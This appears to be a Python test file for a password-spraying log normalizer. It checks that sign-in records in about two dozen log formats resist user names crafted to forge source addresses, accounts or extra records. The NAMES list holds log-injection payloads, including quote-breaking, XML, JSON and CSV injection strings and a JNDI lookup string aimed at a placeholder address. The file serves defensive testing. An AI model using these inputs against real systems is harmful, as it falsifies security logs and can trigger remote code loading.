#!/usr/bin/env python3
"""Names that try to look like something else: whatever somebody types, nothing else changes.

Every format in which a name is typed by a stranger has a builder here: the record as its product
writes it, quoted as that product quotes. A log of each holds one record per hostile name, with an
ordinary one after each. Every record must stay one sign-in, with the address and the outcome that it
has with an ordinary name, and the account must be the name as typed; where a line can be read in two
ways there may be no account and no address. The ordinary ones must stay as they are.
"""
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

ROOT = Path(__file__).resolve().parents[2]
PROGRAM = os.environ.get("SPRAYWATCH", str(ROOT / "build/release/spraywatch"))
LINES_MIN = 300  # fewer hostile records would prove little

REAL, FORGED = "203.0.113.7", "198.51.100.66"

# What somebody may type in place of a name. {forged} is the address that is to be believed.
NAMES = [
    "root from {forged}",
    "root from {forged} port 22",
    "root from {forged} port 22 ssh2",
    "x from {forged} port 22 ssh2 [preauth]",
    "invalid user root",
    "x for root from {forged} port 22 ssh2: RSA SHA256:AAAA",
    "x]: Accepted password for root from {forged} port 22 ssh2",
    "#012Feb  1 09:31:07 h sshd[1]: Accepted password for root from {forged} port 22 ssh2",
    "message repeated 5 times: [ Failed password for root from {forged} port 22 ssh2]",
    "x via {forged}",
    "x rhost={forged}  user=root",
    "x ruser= rhost={forged}",
    "x user=root",
    "x' from {forged}:22",
    "' from {forged}:22",
    "x>, method=PLAIN, rip={forged}, lip=192.0.2.1, session=<y>",
    ">, method=PLAIN",
    "(auth failed, 9 attempts in 1 secs): user=<root>, method=PLAIN, rip={forged}",
    "x]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=root",
    "unknown[{forged}]: SASL LOGIN authentication failed: Connection lost",
    "x], sasl_method=LOGIN, sasl_username=root",
    ", sasl_username=root",
    "x : user IP = {forged}",
    "x : user = root : user IP = {forged}",
    "reason = User was not found : user = root",
    "x> IP <{forged}> AnyConnect parent session started.",
    'x" remip={forged} action="tunnel-up',
    'x" srcip={forged} dstip=192.0.2.9 status="success" user="root',
    "x remip={forged} srcip={forged} status=success",
    "x, ipAddress={forged}, type=LOGIN, error=null",
    "x, username=root",
    "x' authentication attempt by user 'root': user not found",
    "x' which usually indicates they do not exist' remote_ip={forged}",
    'x" remote_ip={forged} msg="Successful 1FA authentication attempt made by user \'root\'',
    '","ipAddress":"{forged}","x":"',
    '"}},{{"userPrincipalName":"root","ipAddress":"{forged}',
    '\\","ipAddress":"{forged}","x":"\\',
    "\\",
    '"',
    "'",
    '""',
    '"",""{forged}""',
    'x","{forged}","0',
    "x,{forged},0,Success",
    "x;{forged};0",
    "</Data><Data Name='IpAddress'>{forged}</Data>",
    "<!-- ",
    "--><Data Name='IpAddress'>{forged}</Data>",
    "<![CDATA[",
    "]]>",
    "&#10;{forged}",
    "&amp;",
    "</Event><Event><System><EventID>4624</EventID></System></Event>",
    "x\t{forged}",
    "x\u2028{forged}",
    "x\u00a0root",
    "%s%n{forged}",
    "${{jndi:ldap://{forged}/x}}",
    "|cs1={forged}|",
    "x@example.com from {forged}",
]

TIME = "2024-02-01T09:31:07+00:00"


# ---- Builders: a name to a record --------------------------------------------------------------------


def syslog_safe(name):
    """Control characters as rsyslog writes them, by default in octal."""
    return "".join(char if char >= " " else f"#{ord(char):03o}" for char in name)


def line(program, text):
    return lambda name: f"{TIME} h {program}: " + text.replace("NAME", syslog_safe(name))


def quoted_line(program, text):
    """Of programs that write texts in quotes with backslashes."""
    return lambda name: f"{TIME} h {program}: " + text.replace("NAME", json.dumps(name)[1:-1])


def fortigate(text):
    front = (
        '<189>date=2024-02-01 time=09:31:07 devname="fw1" devid="FG1" '
        'eventtime=1706779867123456789 tz="+0000" logid="0101039426" type="event" '
    )

    def build(name):
        written = syslog_safe(name).replace("\\", "\\\\").replace('"', '\\"')
        return front + text.replace("NAME", written)

    return build


def document(template):
    """A JSON record; NAME stands for what was typed."""

    def fill(node, name):
        if isinstance(node, dict):
            return {key: fill(value, name) for key, value in node.items()}
        if isinstance(node, list):
            return [fill(value, name) for value in node]
        return node.replace("NAME", name) if isinstance(node, str) else node

    return lambda name: json.dumps(fill(template, name), ensure_ascii=False)


def row(names, values):
    """A CSV row, below `names`; every cell is quoted only where it has to be."""

    def build(name):
        text = io.StringIO()
        csv.writer(text, lineterminator="").writerow([cell.replace("NAME", name) for cell in values])
        return text.getvalue()

    build.header = ",".join(names)
    return build


def event(number, **values):
    """A Windows event in XML, on one line."""

    def build(name):
        cells = {key: value.replace("NAME", name) for key, value in values.items()}
        body = "".join(
            f"<Data Name={quoteattr(key)}>{escape(value)}</Data>" for key, value in cells.items()
        )
        return (
            '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
            '<Provider Name="Microsoft-Windows-Security-Auditing"/>'
            f"<EventID>{number}</EventID><TimeCreated SystemTime='2024-02-01T09:31:07Z'/>"
            f"<Computer>dc1</Computer></System><EventData>{body}</EventData></Event>"
        )

    return build


ENTRA = {
    "time": TIME,
    "category": "SignInLogs",
    "resultType": "50126",
    "callerIpAddress": REAL,
    "properties": {
        "createdDateTime": TIME,
        "userPrincipalName": "NAME",
        "ipAddress": REAL,
        "status": {"errorCode": 50126},
        "userAgent": "agent/1",
    },
}
M365 = {
    "CreationTime": "2024-02-01T09:31:07",
    "Operation": "UserLoginFailed",
    "RecordType": 15,
    "Workload": "AzureActiveDirectory",
    "UserId": "NAME",
    "ActorIpAddress": REAL,
    "ClientIP": REAL,
    "ErrorNumber": "50126",
    "ResultStatus": "Success",
}
OKTA = {
    "eventType": "user.session.start",
    "published": "2024-02-01T09:31:07.000Z",
    "legacyEventType": "core.user_auth.login_failed",
    "actor": {"alternateId": "NAME"},
    "client": {"ipAddress": REAL},
    "outcome": {"result": "FAILURE", "reason": "INVALID_CREDENTIALS"},
}
KEYCLOAK = {
    "time": 1706779867000,
    "type": "LOGIN_ERROR",
    "realmId": "main",
    "clientId": "web",
    "ipAddress": REAL,
    "error": "invalid_user_credentials",
    "details": {"username": "NAME"},
}
JOURNAL = {
    "__REALTIME_TIMESTAMP": "1706779867000000",
    "__CURSOR": "s=1",
    "_UID": "0",
    "_HOSTNAME": "h",
    "SYSLOG_IDENTIFIER": "sshd",
    "MESSAGE": f"Failed password for invalid user NAME from {REAL} port 22 ssh2",
}
ECS = {
    "@timestamp": TIME,
    "event": {"category": ["authentication"], "type": ["start"], "outcome": "failure"},
    "user": {"name": "NAME"},
    "source": {"ip": REAL},
}
AUTHELIA = {
    "level": "error",
    "method": "POST",
    "msg": "Unsuccessful 1FA authentication attempt by user 'NAME': user not found",
    "path": "/api/firstfactor",
    "remote_ip": REAL,
    "time": TIME,
}
PAM = "pam_unix(ftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp"

FORMATS = {
    "sshd, unknown account": line(
        "sshd[7]", f"Failed password for invalid user NAME from {REAL} port 40000 ssh2"
    ),
    "sshd, PAM": line("sshd[7]", f"error: PAM: Authentication failure for illegal user NAME from {REAL}"),
    "sshd, PAM on macOS": line(
        "sshd[7]", f"error: PAM: authentication error for illegal user NAME from {REAL} via 192.0.2.1"
    ),
    "sshd, key": line(
        "sshd[7]", f"Failed publickey for invalid user NAME from {REAL} port 40000 ssh2: RSA SHA256:A"
    ),
    "sshd in the journal": document(JOURNAL),
    "dropbear": line("dropbear[7]", f"Bad password attempt for 'NAME' from {REAL}:40000"),
    "PAM, unknown account": line("ftpd[7]", f"{PAM} ruser=NAME rhost={REAL}"),
    "PAM, account": line("ftpd[7]", f"{PAM} ruser= rhost={REAL}  user=NAME"),
    "Dovecot": line(
        "dovecot",
        "imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<NAME>, method=PLAIN, "
        f"rip={REAL}, lip=192.0.2.1, TLS, session=<abc>",
    ),
    "Postfix": line(
        "postfix/smtpd[7]",
        f"warning: unknown[{REAL}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=NAME",
    ),
    "Cisco ASA": line(
        "%ASA-6-113015",
        "AAA user authentication Rejected : reason = Invalid password : local database : "
        f"user = NAME : user IP = {REAL}",
    ),
    "Cisco ASA, server": line(
        "%ASA-6-113005",
        "AAA user authentication Rejected : reason = AAA failure : server = 192.0.2.5 : "
        f"user = NAME : user IP = {REAL}",
    ),
    "FortiGate VPN": fortigate(
        f'subtype="vpn" vd="root" action="ssl-login-fail" remip={REAL} user="NAME" '
        'reason="sslvpn_login_unknown_user" msg="SSL user failed to logged in"'
    ),
    "FortiGate administrator": fortigate(
        f'subtype="system" vd="root" action="login" user="NAME" ui="https({REAL})" method="https" '
        f'srcip={REAL} dstip=192.0.2.1 status="failed" reason="name_invalid" msg="login failed"'
    ),
    "Keycloak, text": line(
        "keycloak[7]",
        "type=LOGIN_ERROR, realmId=main, clientId=web, userId=null, "
        f"ipAddress={REAL}, error=user_not_found, username=NAME",
    ),
    "Keycloak, quoted text": quoted_line(
        "keycloak[7]",
        'type="LOGIN_ERROR", realmId="main", clientId="web", userId="null", '
        f'ipAddress="{REAL}", error="user_not_found", username="NAME"',
    ),
    "Authelia, pairs": quoted_line(
        "authelia[7]",
        f'time="{TIME}" level=error msg="Unsuccessful 1FA authentication attempt by user '
        f"'NAME': user not found\" method=POST path=/api/firstfactor remote_ip={REAL}",
    ),
    "Authelia, JSON": document(AUTHELIA),
    "Keycloak, JSON": document(KEYCLOAK),
    "Entra ID": document(ENTRA),
    "Microsoft 365": document(M365),
    "Microsoft 365 in CSV": row(
        ["RecordType", "CreationDate", "UserIds", "Operations", "AuditData"],
        ["15", "2024-02-01T09:31:07", "NAME", "UserLoginFailed", "AUDIT"],
    ),
    "Okta": document(OKTA),
    "ECS": document(ECS),
    "Log Analytics in CSV": row(
        ["TimeGenerated", "UserPrincipalName", "IPAddress", "ResultType", "Category", "AppDisplayName"],
        ["2/1/2024, 9:31:07.000 AM", "NAME", REAL, "50126", "SignInLogs", "app"],
    ),
    "Windows 4625": event(
        4625,
        TargetUserName="NAME",
        TargetDomainName="CORP",
        Status="0xc000006d",
        SubStatus="0xc000006a",
        LogonType="3",
        WorkstationName="ws1",
        IpAddress=REAL,
    ),
    "Windows 4771": event(4771, TargetUserName="NAME", Status="0x18", PreAuthType="2", IpAddress=REAL),
}


def build_m365_row(name):
    text = io.StringIO()
    audit = document(M365)(name)
    csv.writer(text, lineterminator="").writerow(
        ["15", "2024-02-01T09:31:07", name, "UserLoginFailed", audit]
    )
    return text.getvalue()


build_m365_row.header = FORMATS["Microsoft 365 in CSV"].header
FORMATS["Microsoft 365 in CSV"] = build_m365_row

# Where some records can be read in two ways: then there is no address, and perhaps no account.
TWO_WAYS = {"sshd, key", "PAM, unknown account", "PAM, account", "FortiGate administrator"}
# Where names are written without quotes among pairs: a blank or a comma ends them.
UNQUOTED = {"Postfix", "Keycloak, text"}


# ---- Checking ----------------------------------------------------------------------------------------


def normalize(records, header):
    text = "\n".join([header, *records] if header else records) + "\n"
    with tempfile.NamedTemporaryFile("w", encoding="utf-8", newline="") as log:
        log.write(text)
        log.flush()
        done = subprocess.run(
            [PROGRAM, "normalize", "-q", log.name], capture_output=True, check=False
        )
    return [json.loads(found) for found in done.stdout.splitlines()]


def told(found):
    source = found.get("source", {})
    return {
        "source": source.get("ip") or source.get("domain"),
        "outcome": found["spraywatch"]["outcome"],
        "password": found["spraywatch"]["password"],
        "account": found.get("user", {}).get("email"),
    }


def is_typed(written, typed, is_unquoted):
    """Whether an account is the name: as typed, or as syslog writes it, without blanks around it."""
    if is_unquoted:
        return written is None or syslog_safe(typed).lstrip('"').startswith(written)
    return written is not None and written.strip() in {typed.strip(), syslog_safe(typed).strip()}


def is_read(one, typed, name):
    if name in TWO_WAYS and one["source"] is None and one["account"] is None:
        return True
    has_source = one["source"] == REAL or (name in TWO_WAYS and one["source"] is None)
    return has_source and is_typed(one["account"], typed, name in UNQUOTED)


def check_format(name, build):
    plain = told(normalize([build("ordinary")], getattr(build, "header", ""))[0])
    if plain["source"] != REAL or plain["account"] != "ordinary":
        return [f"an ordinary record is read as {plain}"]
    hostile = [text.format(forged=FORGED) for text in NAMES]
    records = [build(text) for typed in hostile for text in (typed, "ordinary")]
    found = [told(one) for one in normalize(records, getattr(build, "header", ""))]
    if len(found) != len(records):
        return [f"{len(records)} records, {len(found)} sign-ins"]
    problems = []
    for typed, one, after in zip(hostile, found[::2], found[1::2]):
        if after != plain:
            problems.append(f"{typed!r}: the record behind it is read as {after}")
        if not is_read(one, typed, name):
            problems.append(f"{typed!r}: read as {one}")
        if (one["outcome"], one["password"]) != (plain["outcome"], plain["password"]):
            problems.append(f"{typed!r}: {one['outcome']}, not {plain['outcome']}")
    return problems


def main():
    print(f"1..{len(FORMATS) + 1}")
    failed = False
    for number, (name, build) in enumerate(FORMATS.items(), 1):
        problems = check_format(name, build)
        failed |= bool(problems)
        print(f"{'not ok' if problems else 'ok'} {number} - {name}: a name changes nothing else")
        for problem in problems:
            print(f"#   {problem}")
    lines = len(FORMATS) * len(NAMES)
    failed |= lines < LINES_MIN
    print(f"{'ok' if lines >= LINES_MIN else 'not ok'} {len(FORMATS) + 1} - {lines} hostile records")
    return int(failed)


sys.exit(main())
